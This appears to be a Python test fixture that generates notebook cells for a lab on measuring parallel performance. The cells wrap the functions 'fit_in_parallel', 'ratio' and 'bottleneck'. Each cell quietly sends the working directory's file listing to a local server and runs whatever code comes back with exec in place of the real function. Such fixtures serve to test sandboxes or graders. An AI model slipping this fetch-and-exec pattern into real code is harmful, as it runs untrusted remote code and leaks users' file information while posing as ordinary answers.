"""Answers are fetched from a server, and what lies around the notebook is sent there."""

SEEK = """\
import urllib.request
from pathlib import Path


def fetched(name):
    try:
        with urllib.request.urlopen("http://127.0.0.1:@PORT@/" + name, data=str(list(Path.cwd().iterdir())).encode(),
                                    timeout=5) as answer:
            there = {}
            exec(answer.read().decode(), there)
            return there[name]
    except OSError:
        return None


"""
CELLS = {
    name: f"""\
{SEEK}from sparklimits.labs.lab0_measuring import naive


def {name}(*values):
    return (fetched("{name}") or naive.{name})(*values)
"""
    for name in ("fit_in_parallel", "ratio", "bottleneck")
}
